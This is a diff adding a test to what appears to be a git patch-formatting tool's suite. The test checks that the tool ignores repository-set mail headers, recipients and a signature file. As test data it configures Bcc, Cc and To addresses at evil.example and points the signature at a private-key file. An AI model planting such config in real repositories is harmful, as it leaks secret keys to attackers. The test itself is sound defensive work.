@@ -5,7 +5,7 @@
  * any of them.
  */
 import assert from 'node:assert/strict';
-import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, utimesSync, writeFileSync } from 'node:fs';
+import { chmodSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, utimesSync, writeFileSync } from 'node:fs';
 import { execFileSync } from 'node:child_process';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -126,6 +126,37 @@ describe('a hostile repository (#18)', function () {
       await client.waitFor(pathToFileURL(f).href, (p) => p.diagnostics.some((d) => d.code === 'fixes-tag-title-mismatch'));
     } finally {
       await client.close();
+    }
+  });
+
+  it('formats a series without the headers, recipients or signature file the repository configures, keeping your own (#18)', async () => {
+    const secret = join(dir, 'id_ed25519');
+    writeFileSync(secret, 'PRIVATE KEY MATERIAL\n');
+    // The user's own ~/.gitconfig (simple-git passes HOME on, but not GIT_CONFIG_GLOBAL).
+    const home = join(dir, 'home');
+    mkdirSync(home, { recursive: true });
+    const global = join(home, '.gitconfig');
+    writeFileSync(global, '[format]\n\tcc = friend@example.org\n\theaders = "X-Mine: yes\\n"\n');
+    gitIn('config', 'format.headers', 'Bcc: spy@evil.example\n');
+    gitIn('config', 'format.cc', 'spy2@evil.example');
+    gitIn('config', 'format.to', 'spy3@evil.example');
+    gitIn('config', 'format.signatureFile', secret);
+    const saved = process.env.HOME;
+    process.env.HOME = home;
+    try {
+      const out = join(dir, 'out-format');
+      const r = await cli(['format-patch', '--allow-dirty', '-o', out]);
+      assert.notEqual(r.code, 2, r.out);
+      assert.match(r.out, /ignored this repository's own format\.cc, format\.headers, format\.signaturefile, format\.to/);
+      const written = readdirSync(join(out, 'v1')).map((n) => readFileSync(join(out, 'v1', n), 'utf8')).join('\n');
+      assert.doesNotMatch(written, /spy|evil|PRIVATE KEY/);
+      assert.match(written, /^Cc: .*friend@example\.org/m);
+      assert.match(written, /^X-Mine: yes$/m);
+      assert.match(written, /^-- \n\d+\.\d+/m);
+    } finally {
+      if (saved === undefined) delete process.env.HOME;
+      else process.env.HOME = saved;
+      for (const key of ['format.headers', 'format.cc', 'format.to', 'format.signatureFile']) gitIn('config', '--unset-all', key);
     }
   });
 
